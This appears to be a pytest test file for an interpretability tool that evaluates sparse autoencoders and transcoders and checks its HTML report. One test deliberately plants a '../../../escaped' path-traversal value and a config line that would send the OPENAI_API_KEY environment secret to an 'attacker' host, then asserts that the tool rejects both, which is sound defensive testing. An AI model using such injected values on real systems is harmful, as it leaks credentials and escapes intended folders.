"""Evaluation of real run directories on the tiny model, and the report in a real browser."""

import json
import shutil
from dataclasses import replace
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest
import torch

from skipcoder.errors import UserError
from skipcoder.evals.config import EvaluateConfig
from skipcoder.evals.core import evaluator as run_module
from skipcoder.evals.core.evaluator import Evaluator
from skipcoder.evals.core.results import BY_DOCUMENT
from skipcoder.evals.evaluate import evaluate
from skipcoder.pipeline.model.sites import replacing
from skipcoder.pipeline.store.reader import ActivationStore
from skipcoder.trainer.bank import bank as training
from skipcoder.trainer.config import MLP_KINDS, CoderConfig, Kind, Side, StreamConfig
from skipcoder.trainer.run.run import Run
from tests.trainer.run.test_run import config

pytestmark = pytest.mark.slow

KEYS = [
    "kind",
    "k",
    "width",
    "hookpoint",
    "model",
    "train_tokens",
    "fvu",
    "fvu_per_dim",
    "l0",
    "dead_fraction",
    "ce_clean",
    "ce_spliced",
    "ce_zero",
    "ce_mean",
    "ce_recovered_zero",
    "ce_recovered_mean",
    "seconds",
]


@pytest.fixture(scope="module")
def sweep(store: ActivationStore, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Finished runs: each kind, and SAEs of either side that saw every position."""
    directory = tmp_path_factory.mktemp("sweep")
    for kind in MLP_KINDS:
        training.train(config(store, kind), directory / kind.value)
    for name, side in (("sae_input", Side.input), ("sae_all", Side.output)):
        cfg = config(store, Kind.sae)
        cfg.coder = CoderConfig(kind=Kind.sae, k=4, width=64, side=side)
        cfg.stream = StreamConfig(first_positions=0, special_tokens=False)
        training.train(cfg, directory / name)
    return directory


@pytest.fixture(scope="module")
def rows(sweep: Path) -> dict[str, dict[str, Any]]:
    """The table. One of the runs has pages of its latents."""
    (sweep / "sae" / "features").mkdir()
    (sweep / "sae" / "features" / "index.html").touch()
    evaluate(EvaluateConfig(runs=f"{sweep}/*", out=str(sweep / "summary.json"), ce_tokens=128, every_position=True))
    return {Path(row["run"]).name: row for row in json.loads((sweep / "summary.json").read_text())}


def test_table_has_what_is_promised(rows: dict[str, dict[str, Any]], sweep: Path) -> None:
    assert set(rows) == {"sae", "sae_all", "sae_input", "transcoder", "skip_transcoder"}
    for name, row in rows.items():
        assert set(KEYS) <= row.keys()
        assert row["fvu"] < 1
        assert row["ce_recovered_zero"] is None  # what ablation costs this random model is not clear of 0
        assert row["ce_increase"] == pytest.approx(row["ce_spliced"] - row["ce_clean"])
        evaluation = json.loads((sweep / name / "evaluation.json").read_text())
        assert evaluation.items() <= row.items()
    assert rows["skip_transcoder"]["fvu"] < rows["transcoder"]["fvu"]
    assert {name for name, row in rows.items() if "ce_skip_only" in row} == {"skip_transcoder"}
    assert len({row["ce_clean"] for row in rows.values()}) == 1
    # Nothing was left out when this one was trained, so both ways are the same.
    assert rows["sae_input"]["ce_spliced"] == rows["sae_input"]["ce_spliced_all"]
    for row in rows.values():
        assert row["kl_spliced"] < row["kl_zero"] and row["by_position"][0]["first"] == 0
        assert row["documents"] == row["ce_documents"] < 20  # too few for intervals
        assert row["fvu_ci"] is row["ce_increase_ci"] is row["kl_spliced_ci"] is None
    columns = {key for row in rows.values() for key in row}
    wanted = [{key: row.get(key) for key in columns} for row in rows.values()]
    assert pq.read_table(sweep / "summary.parquet").to_pylist() == wanted


@pytest.mark.parametrize("name", ["sae", "sae_all", "sae_input", "transcoder", "skip_transcoder"])
def test_together_is_what_each_would_be_alone(
    rows: dict[str, dict[str, Any]], sweep: Path, tmp_path: Path, name: str
) -> None:
    """Ablations are shared by those coders alone that write at the same place and leave out the same positions."""
    copy = Path(shutil.copytree(sweep / name, tmp_path / name))
    evaluate(EvaluateConfig(run=str(copy), ce_tokens=128))
    alone = json.loads((copy / "evaluation.json").read_text())
    assert {k: v for k, v in alone.items() if k != "evaluation_seconds"}.items() <= rows[name].items()


def test_in_groups_as_all_at_once(
    rows: dict[str, dict[str, Any]], store: ActivationStore, sweep: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(run_module, "AT_ONCE", 2)
    runs = [Run.open(sweep / name) for name in rows]
    for run, result in zip(runs, Evaluator(store, 128, 4, "cpu").evaluate(runs), strict=True):
        del result["evaluation_seconds"], result[BY_DOCUMENT]
        assert result.items() <= rows[run.path.name].items()


def test_fvu_is_that_of_the_stored_held_out_pairs(
    rows: dict[str, dict[str, Any]], sweep: Path, store: ActivationStore
) -> None:
    run = Run.open(sweep / "skip_transcoder")
    spans = [store.unit_range(unit) for unit in store.split("test")]
    index = torch.cat([torch.from_numpy(store.read("index", *s).astype("int64")) for s in spans])
    x, y = (
        torch.cat([store.activations("layers.1.mlp", side, *s) for s in spans]).float() for side in ("input", "output")
    )
    tokens = torch.from_numpy(store.read("tokens", 0, store.rows)).flatten()
    keep = (index % store.context >= 1) & ~torch.isin(tokens[index], torch.tensor(store.attrs["special_tokens"]))
    x, y = x[keep], y[keep].double()
    error = (y - run.coder(x).y_hat.double()).square().sum()
    row = rows["skip_transcoder"]
    assert row["n"] == len(x)
    assert row["fvu"] == pytest.approx(float(error / (y - y.mean(0)).square().sum()), rel=1e-9)


@torch.no_grad()
def test_spliced_cross_entropy_is_that_of_a_plain_hook(
    rows: dict[str, dict[str, Any]], sweep: Path, store: ActivationStore
) -> None:
    run = Run.open(sweep / "transcoder")
    evaluator = Evaluator(store, 128, 4, "cpu")
    trunk: Any = evaluator.model.base_model
    mlp = trunk.get_submodule("layers.1.mlp")
    hook = mlp.register_forward_hook(lambda _, args, out: run.coder(args[0]).y_hat.to(out.dtype))
    wanted = evaluator.model(evaluator.tokens_BT).logits
    hook.remove()
    with replacing(evaluator.model, run.read_site, run.write_site, lambda x: run.coder(x).y_hat):
        assert torch.equal(evaluator.model(evaluator.tokens_BT).logits, wanted)
    losses = torch.nn.functional.cross_entropy(
        wanted[:, :-1].flatten(0, 1).float(), evaluator.tokens_BT[:, 1:].flatten()
    )
    assert rows["transcoder"]["ce_spliced_all"] == pytest.approx(
        float(losses), rel=1e-3
    )  # other batches of a bf16 model


def test_positions_that_training_left_out_are_spliced_only_on_request(
    rows: dict[str, dict[str, Any]], sweep: Path, tmp_path: Path
) -> None:
    """The rest does not change by that, and the model runs half as often."""
    run = shutil.copytree(sweep / "skip_transcoder", tmp_path / "run")
    (row,) = evaluate(EvaluateConfig(run=str(run), ce_tokens=128))
    every = rows["skip_transcoder"]
    assert "by_position" in every and {"ce_spliced_all", "kl_zero_all", "ce_skip_only_all"} <= every.keys()
    assert "by_position" not in row and not [key for key in row if "_all" in key]
    assert all(row[key] == every[key] for key in row if key.startswith(("ce_", "kl_")))


def test_a_model_that_predicts_no_next_token_still_has_its_coder_measured(
    cache_config: Any, capture_here: Any, tiny_model: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from transformers import AutoTokenizer, DistilBertConfig, DistilBertModel

    model: Any = DistilBertModel(DistilBertConfig(vocab_size=400, dim=24, hidden_dim=48, n_layers=2, n_heads=4))
    model.to(torch.bfloat16).save_pretrained(tmp_path / "bert")
    AutoTokenizer.from_pretrained(tiny_model).save_pretrained(tmp_path / "bert")
    cfg = cache_config(tmp_path / "s.zarr", ("transformer.layer.1.ffn",))
    cfg.model.id = str(tmp_path / "bert")
    store = capture_here(cfg)
    training.train(replace(config(store), hookpoint="transformer.layer.1.ffn"), tmp_path / "run")
    (row,) = evaluate(EvaluateConfig(runs=str(tmp_path / "run"), out=str(tmp_path / "t.json"), ce_tokens=128))
    assert 0 < row["fvu"] < 2 and "ce_clean" not in row
    assert "predicts no next token" in capsys.readouterr().out
    assert "predicts no next token" in (tmp_path / "report.html").read_text()


def test_bad_runs_are_named(store: ActivationStore, sweep: Path, tmp_path: Path) -> None:
    with pytest.raises(UserError, match="no such directory"):
        Run.open(tmp_path / "none")
    broken = Path(shutil.copytree(sweep / "sae", tmp_path / "sae"))
    (broken / "summary.json").unlink()
    with pytest.raises(UserError, match=r"is no finished run \(summary.json is missing\)"):
        Run.open(broken)
    run = Run.open(sweep / "sae")
    run.coder.meta["data"]["store_identity"] = "another"
    with pytest.raises(UserError, match="trained on another capture"):
        run.check(store)


def test_files_of_others_lead_nowhere(
    store: ActivationStore, sweep: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Neither out of the folder that is written to, nor to the environment's secrets."""
    foreign = Path(shutil.copytree(sweep / "sae", tmp_path / "sae"))
    summary = json.loads((foreign / "summary.json").read_text())
    (foreign / "summary.json").write_text(json.dumps({**summary, "hookpoint": "../../../escaped"}))
    with pytest.raises(UserError, match=r"names the hookpoint '../../../escaped', but its coder 'layers.1.mlp'"):
        Run.open(foreign).check(store)
    monkeypatch.setenv("OPENAI_API_KEY", "secret")
    config = (foreign / "config.yaml").read_text()
    assert str(store.path) in config
    (foreign / "config.yaml").write_text(config.replace(str(store.path), "s3://${oc.env:OPENAI_API_KEY}.attacker/x"))
    with pytest.raises(UserError, match=r"config.yaml refers to other values by \$\{...\}"):
        Run.open(foreign)


def test_report_is_one_self_contained_page(rows: dict[str, dict[str, Any]], sweep: Path) -> None:
    page = (sweep / "report.html").read_text()
    assert page.count('<div class="plot">') == 5 and page.count("<tr>") == 6
    own = page[: page.index("<script>/**")]  # Plotly's script follows, which loads nothing unless it is asked for maps
    for remote in ('src="', "@import", 'href="http'):
        assert remote not in own
    assert f"{rows['sae']['fvu']:.3f}" in page
    assert "layers.1.mlp" in page and "not recorded" in page
    assert own.count("<a ") == 1 and 'href="sae/features/index.html"' in page
    assert all(f"<td>{name}</td>" in page for name in rows.keys() - {"sae"})
